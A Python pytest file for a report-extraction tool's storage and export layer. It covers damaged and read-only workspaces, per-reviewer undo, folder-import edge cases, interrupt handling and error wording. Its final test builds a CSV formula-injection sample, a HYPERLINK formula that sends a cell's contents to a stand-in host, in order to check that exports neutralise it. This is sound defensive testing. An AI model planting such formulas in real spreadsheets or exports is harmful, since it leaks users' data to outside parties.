"""Findings on the store and output side: damaged and read-only workspaces, per-reviewer undo, what a
folder import passes over, Ctrl+C, stray tracebacks, one voice of wording, formula injection in CSV."""

from __future__ import annotations

import csv
import errno
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from hostile_helpers import ROOT, SAMPLE_TXT, SAMPLES, CliResult, one_clean_line
from store_helpers import extraction, write_corpus

from core import documents, export, messages
from core.errors import ExportError, LoadError, StoreError
from core.store import Workspace, db


def _workspace(path: Path, *files: Path) -> None:
    with Workspace.open(path) as ws:
        assert ws.import_paths(list(files) or [SAMPLES], workers=1).added >= 1


# ---- 6. a corrupted workspace is refused at open, naming the latest good backup -------------------
def test_import_into_corrupted_workspace_is_refused(tmp_path: Path, cli: Callable[..., CliResult]) -> None:
    w = tmp_path / "w.sqlite"
    _workspace(w)
    backup = tmp_path / "w.sqlite.bak-20240101"
    shutil.copy(w, backup)
    data = bytearray(w.read_bytes())
    page = 4096
    assert len(data) > 8 * page
    for k in range(3, len(data) // page, 2):  # scribble over every other page after the schema
        data[k * page + 100 : k * page + 900] = os.urandom(800)
    w.write_bytes(bytes(data))
    before = w.read_bytes()
    code, out, err = cli("import", str(SAMPLE_TXT), "--db", str(w))
    assert code == 1 and "新增" not in out
    one_clean_line(err)
    assert "已损坏" in err and str(backup) in err
    assert w.read_bytes() == before  # nothing written into the damaged file


def test_a_workspace_whose_schema_names_are_not_text_is_damaged(
    tmp_path: Path, cli: Callable[..., CliResult]
) -> None:
    """A damaged page can hold the schema itself (format 5 keeps views and triggers there): a table's
    name that is no longer UTF-8 is the damage it is, said in one line, not a traceback."""
    w = tmp_path / "w.sqlite"
    _workspace(w)
    data = bytearray(w.read_bytes())
    at = data.index(b"schema_version")
    data[at : at + 2] = b"\xc2 "  # a lead byte without its continuation
    w.write_bytes(bytes(data))
    before = w.read_bytes()
    code, out, err = cli("import", str(SAMPLE_TXT), "--db", str(w))
    assert code == 1 and "新增" not in out
    one_clean_line(err)
    assert "已损坏" in err and w.read_bytes() == before
    with pytest.raises(StoreError, match="已损坏"):
        Workspace.open(w, readonly=True)


def test_damaged_workspace_without_backup_says_so(tmp_path: Path) -> None:
    w = tmp_path / "w.sqlite"
    _workspace(w)
    data = bytearray(w.read_bytes())
    for k in range(3, len(data) // 4096, 2):
        data[k * 4096 + 100 : k * 4096 + 900] = os.urandom(800)
    w.write_bytes(bytes(data))
    with pytest.raises(StoreError) as e:
        Workspace.open(w)
    assert "已损坏" in str(e.value) and "没有找到完好的备份" in str(e.value)


# ---- 7. export only reads ----------------------------------------------------------------------------
def test_export_leaves_the_workspace_folder_untouched(tmp_path: Path, cli: Callable[..., CliResult]) -> None:
    folder = tmp_path / "共享盘"
    folder.mkdir()
    w = folder / "w.sqlite"
    _workspace(w, SAMPLE_TXT)
    data = w.read_bytes()
    code, out, err = cli("export", "--db", str(w), "--csv", str(tmp_path / "out.csv"))
    assert code == 0, err
    assert w.read_bytes() == data  # not a byte written (a reader's empty WAL index may stay beside it)
    assert all(p.stat().st_size == 0 for p in folder.iterdir() if p != w and p.name.endswith("-wal"))


def _immutable(path: Path, on: bool) -> bool:
    r = subprocess.run(["chattr", "+i" if on else "-i", str(path)], capture_output=True)
    return r.returncode == 0


@pytest.mark.skipif(shutil.which("chattr") is None, reason="no chattr here")
def test_export_from_an_immutable_workspace(tmp_path: Path, cli: Callable[..., CliResult]) -> None:
    """chattr +i stops even root from writing: what a read-only mount does to everyone."""
    folder = tmp_path / "只读"
    folder.mkdir()
    w = folder / "w.sqlite"
    _workspace(w, SAMPLE_TXT)
    if not _immutable(folder, True):
        pytest.skip("this file system or user cannot set the immutable flag")
    try:
        _immutable(w, True)
        code, out, err = cli("export", "--db", str(w), "--xlsx", str(tmp_path / "out.xlsx"))
        assert code == 0, err
        assert (tmp_path / "out.xlsx").stat().st_size > 0
        code, out, err = cli("import", str(SAMPLES), "--db", str(w))  # writing is refused clearly
        assert code == 1 and ("只读" in err or "没有写入权限" in err)
        one_clean_line(err)
    finally:
        _immutable(w, False)
        _immutable(folder, False)


# ---- 8. undo is the reviewer's own, in the report in view ---------------------------------------------
def test_undo_takes_back_only_my_own_action_in_this_report(tmp_path: Path) -> None:
    w = tmp_path / "w.sqlite"
    with Workspace.open(w, reviewer="张三") as a, Workspace.open(w, reviewer="李四") as b:
        r1 = a.add_report(extraction())
        r2 = a.add_report(extraction(salt="另一份"))
        f1, f2 = a.figures(r1)[0].id, b.figures(r2)[0].id
        a.correct(f1, Decimal(7))
        b.correct(f2, Decimal(9))  # later, by someone else, elsewhere
        assert a.undo(r2) is None  # nothing of 张三's in 李四's report
        change = a.undo(r1)
        assert change is not None and change.report_id == r1
        assert a.figures(r1)[0].value != Decimal(7)
        assert b.figures(r2)[0].value == Decimal(9)  # 李四's correction stands
        assert b.undo(r2) is not None and b.figures(r2)[0].value != Decimal(9)
        assert a.redo(r1) is not None and a.figures(r1)[0].value == Decimal(7)


# ---- 11. nothing a folder holds is passed over in silence -----------------------------------------------
def test_folder_import_names_what_it_passes_over(
    tmp_path: Path, cli: Callable[..., CliResult], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "报告"
    (root / "正常").mkdir(parents=True)
    shutil.copy(SAMPLE_TXT, root / "正常" / "a.txt")
    elsewhere = tmp_path / "别处"
    elsewhere.mkdir()
    (elsewhere / "b.txt").write_text("某县2022年报告\n收到申请12件。\n", "utf-8")
    (root / "链接").symlink_to(elsewhere, target_is_directory=True)
    (root / "循环").symlink_to(root, target_is_directory=True)  # a link loop: walked once
    (root / "空的").mkdir()
    locked = root / "锁住"
    locked.mkdir()
    (locked / "c.txt").write_text("某区2021年报告\n收到申请3件。\n", "utf-8")
    with zipfile.ZipFile(root / "打包.zip", "w") as z:
        z.write(SAMPLE_TXT, "x.txt")
    (root / "断链.txt").symlink_to(tmp_path / "不存在.txt")
    real_scandir = os.scandir

    def scandir(path: os.PathLike[str] | str) -> object:  # root may read anything: deny as a user is denied
        if Path(path).name == "锁住":
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    code, out, err = cli("import", str(root), "--db", str(tmp_path / "w.sqlite"))
    # a.txt only: the link leads out of the chosen folder (a link to / once imported a whole disk), and
    # is said
    assert "新增 1 份" in out and "将读取 1 个文件：文本 1 个" in out
    assert code == 1
    one_clean_line(err)
    assert f"{root / '链接'}: {messages.LINK_OUTSIDE}" in err
    assert "锁住" in err and "没有读取此文件夹的权限" in err
    assert "打包.zip" in err and "解压" in err
    assert "断链.txt" in err and "链接" in err
    code, out, err = cli("import", str(root / "空的"), "--db", str(tmp_path / "w.sqlite"))
    assert code == 1 and messages.FOLDER_EMPTY in err


# ---- 12. Ctrl+C during a pooled import --------------------------------------------------------------------
@pytest.mark.skipif(sys.platform == "win32", reason="signals to a process group")
def test_ctrl_c_during_pooled_import_cancels_cleanly(tmp_path: Path) -> None:
    write_corpus(tmp_path / "报告", 300)
    w = tmp_path / "w.sqlite"
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "gui.shell.app",
            "import",
            str(tmp_path / "报告"),
            "--db",
            str(w),
            "--workers",
            "2",
        ],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,  # its own process group, as a terminal's foreground job
    )
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and proc.poll() is None:  # wait for the first stored report
            try:
                with sqlite3.connect(f"{w.as_uri()}?mode=ro", uri=True) as c:
                    if c.execute("SELECT count(*) FROM reports").fetchone()[0]:
                        break
            except sqlite3.Error:
                pass
            time.sleep(0.05)
        os.killpg(proc.pid, signal.SIGINT)  # Ctrl+C: every process of the group gets it
        out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    text_err = err.decode("utf-8", "replace")
    assert "Traceback" not in text_err, text_err
    assert proc.returncode in (0, 130)
    with Workspace.open(w) as ws:  # what was stored is whole, and a second import finishes the rest
        assert ws.import_paths([tmp_path / "报告"], workers=1).errors == []
        assert len(ws.reports()) == 300


# ---- 14. no stray traceback after a clean message -------------------------------------------------------
def test_xlsx_export_to_a_full_disk_is_one_clean_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import gc

    from core.export import stream

    w = tmp_path / "w.sqlite"
    _workspace(w, SAMPLE_TXT)
    unraisable: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    real_open = open

    class Full:
        """A file on a disk that fills up after its first 4 KB."""

        def __init__(self, path: str, mode: str) -> None:
            self.f = real_open(path, mode)

        def write(self, data: bytes) -> int:
            if self.f.tell() + len(data) > 4096:
                raise OSError(errno.ENOSPC, "No space left on device")
            return self.f.write(data)

        def __getattr__(self, name: str) -> object:
            return getattr(self.f, name)

    monkeypatch.setattr(stream, "open", Full, raising=False)
    with Workspace.open(w, readonly=True) as ws, pytest.raises(ExportError) as e:
        export.to_xlsx(ws, tmp_path / "out.xlsx")
    gc.collect()
    assert "磁盘空间已满" in str(e.value) and "out.xlsx" in str(e.value)
    assert unraisable == [] and not (tmp_path / "out.xlsx").exists()
    assert not list(tmp_path.glob("*.part*"))


def test_extract_into_a_closed_pipe_ends_quietly(tmp_path: Path) -> None:
    files = [str(p) for p in write_corpus(tmp_path / "r", 40)]
    cmd = [sys.executable, "-m", "gui.shell.app", "extract", "--json", "--pretty", *files]
    head = subprocess.Popen(["head", "-c", "100"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
    r = subprocess.run(cmd, cwd=ROOT, stdout=head.stdin, stderr=subprocess.PIPE, timeout=120)
    head.stdin.close()  # type: ignore[union-attr]
    head.wait()
    assert b"Traceback" not in r.stderr and b"Exception ignored" not in r.stderr, r.stderr
    assert r.returncode in (0, 1)


# ---- 15. one voice: the same cause reads the same, in Chinese, with what to do ---------------------------
def test_wording_of_os_problems(
    tmp_path: Path, cli: Callable[..., CliResult], monkeypatch: pytest.MonkeyPatch, cli_reads_here: None
) -> None:
    loop = tmp_path / "环.txt"
    loop.symlink_to(loop)
    code, _, err = cli("extract", "--json", str(loop))
    assert code == 1 and "符号链接循环" in err and "文件不存在" not in err
    code, _, err = cli("import", str(loop), "--db", str(tmp_path / "w.sqlite"))
    assert code == 1 and "符号链接循环" in err
    # the same permission problem reads the same in extract and in import
    p = tmp_path / "锁.txt"
    p.write_text("某县2022年报告\n收到申请12件。\n", "utf-8")
    real_open = os.open

    def deny(path: str | os.PathLike[str], flags: int, *a: int) -> int:
        if os.fspath(path).endswith("锁.txt"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, flags, *a)

    monkeypatch.setattr(os, "open", deny)
    _, _, err_extract = cli("extract", "--json", str(p))
    _, _, err_import = cli("import", str(p), "--db", str(tmp_path / "w.sqlite"))
    reason = messages.os_reason(PermissionError(errno.EACCES, "x"))
    assert reason in err_extract and reason in err_import and "Permission denied" not in err_import


def test_wording_of_damaged_docx_and_disk_errors(tmp_path: Path) -> None:
    buf = (SAMPLES / "示范市交通运输局2023年政府信息公开工作年度报告.docx").read_bytes()
    with zipfile.ZipFile(SAMPLES / "示范市交通运输局2023年政府信息公开工作年度报告.docx") as z:
        info = z.getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    bad = bytearray(buf)
    bad[start + 10 : start + 60] = b"\xff" * 50  # the deflate stream of the body, broken
    p = tmp_path / "坏.docx"
    p.write_bytes(bytes(bad))
    with pytest.raises(LoadError) as e:
        documents.load(p)
    assert "Error -3" not in e.value.reason and "压缩包" in e.value.reason
    msg = str(db.explain(tmp_path / "新.sqlite", sqlite3.OperationalError("disk I/O error")))
    assert "disk I/O" not in msg and "磁盘" in msg
    full = messages.write_reason(OSError(errno.ENOSPC, "No space left on device"))
    assert full.startswith("磁盘空间已满")


# ---- 16. CSV fields that a spreadsheet would run as formulas ---------------------------------------------
def test_csv_neutralises_formula_fields_and_xlsx_writes_strings(
    tmp_path: Path, cli: Callable[..., CliResult]
) -> None:
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    p = tmp_path / f"{'+SUM(1,2)'}.txt"
    p.write_text(
        f"{hostile}\n@SUM(1+1)某县2023年政府信息公开工作年度报告\n"
        f"-2+3收到政府信息公开申请12件，=1+1办结10件。\n{hostile}主动公开政府信息35条。\n",
        "utf-8",
    )
    w = tmp_path / "w.sqlite"
    assert cli("import", str(p), "--db", str(w))[0] == 0
    out = tmp_path / "out.csv"
    assert cli("export", "--db", str(w), "--csv", str(out), "--xlsx", str(tmp_path / "out.xlsx"))[0] == 0
    with open(out, encoding="utf-8-sig", newline="") as f:
        fields = [v for row in csv.reader(f) for v in row]
    neutralised = [v for v in fields if v.startswith("'") and v[1:2] in ("=", "+", "-", "@")]
    assert neutralised, "the hostile text never reached the CSV: the test proves nothing"
    for v in fields:
        assert not v.startswith(("=", "+", "@", "\t", "\r")) and not (
            v.startswith("-") and not v[1:].replace(".", "", 1).isdigit()
        ), v
    with zipfile.ZipFile(tmp_path / "out.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                # the workbook's own formulas (SUM totals, 核对 cells) only: no text became one
                formulas = re.findall(rb"<f>([^<]*)</f>", z.read(name))
                assert all(
                    f.startswith((b"SUM(", b"IF(", b"SUMIF(", b"\xe6\xb1\x87\xe6\x80\xbb!")) for f in formulas
                ), formulas
                assert not any(b"HYPERLINK" in f or b"example" in f for f in formulas), name
